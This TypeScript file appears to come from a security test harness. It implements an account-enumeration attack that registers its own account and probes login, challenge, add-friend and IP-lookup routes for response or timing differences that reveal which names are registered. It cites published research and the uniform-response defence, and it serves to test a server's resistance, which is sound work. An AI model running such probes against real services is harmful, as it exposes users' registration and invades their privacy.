/**
 * enumeration: finds out who is registered from answers that differ.
 *
 * What it does: asks on every route that takes a name, first about a name that she registered herself and about some
 * that nobody did. A route whose answers differ for these, in words or in time, tells about all other names.
 * Published: Hagen, Weinert, Sendner, Dmitrienko and Schneider, "All the Numbers are US: Large-scale Abuse of Contact
 * Discovery in Mobile Messengers", NDSS 2021; Gegenhuber and others, "Hey there! You are using WhatsApp", 2025.
 * What stops it: the same answer, after the same work, whether a name exists or not.
 */

import { registerAttacker } from './account'
import type { Attack } from './attack'
import { deed } from './deeds'
import { noop } from './noop'
import { type Oracle, type OracleQuestion, practise } from './oracle'

/** Every route that takes a name, but for registering itself: see taken-names.ts. */
const questions: readonly OracleQuestion[] = [
  ({ request }, name) => request('POST', '/login', { body: { name, password: 'a wrong password' } }),
  ({ request }, name) => request('POST', '/login/challenge', { body: { name } }),
  async ({ request }, name) => {
    const asked = await request('POST', '/login/challenge', { body: { name } })
    if (asked.status !== 200) return asked
    const { challenge } = asked.json as { challenge: string }
    // One that fits no key, but looks like a signature.
    const signature = Buffer.alloc(256, 1).toString('base64')
    return request('POST', '/login', { body: { name, challenge, signature } })
  },
  ({ request, account }, name) => request('POST', '/add_friend', { body: { name }, token: account!.token }),
  ({ request, account }, name) => request('GET', `/get_ip?name=${name}`, { token: account!.token }),
]

export const enumeration: Attack = {
  name: 'enumeration',
  about: 'finds out who is registered from answers that differ, in words or in time',
  prepare: noop.prepare,
  async launch(mallory) {
    if (!mallory.account) throw new Error('this attack needs an account')
    const candidates = mallory.told('candidates')
    mallory.acted(deed('asks-about-names', candidates.length, questions.length))
    const mine = `mine-${mallory.random('name', 6).toString('hex')}`
    await registerAttacker(mallory.request, mine, 'a password of hers')
    const oracles = []
    for (const question of questions) oracles.push(await practise(mallory, question, mine))
    for (const [index, name] of candidates.entries()) {
      const known = await exists(oracles, name)
      // Where nothing tells she tosses a coin, and says so.
      const coin = mallory.random(name, 1).readUInt8() < 128
      mallory.guessed(name, (known ?? coin) ? 'registered' : 'free', known !== undefined)
      if (index % 25 === 0) mallory.progress(index, candidates.length, deed('names-asked-about'))
    }
  },
}

/** What the first route says that says anything. */
async function exists(oracles: readonly Oracle[], name: string): Promise<boolean | undefined> {
  for (const oracle of oracles) {
    const answer = await oracle(name)
    if (answer !== undefined) return answer
  }
  return undefined
}
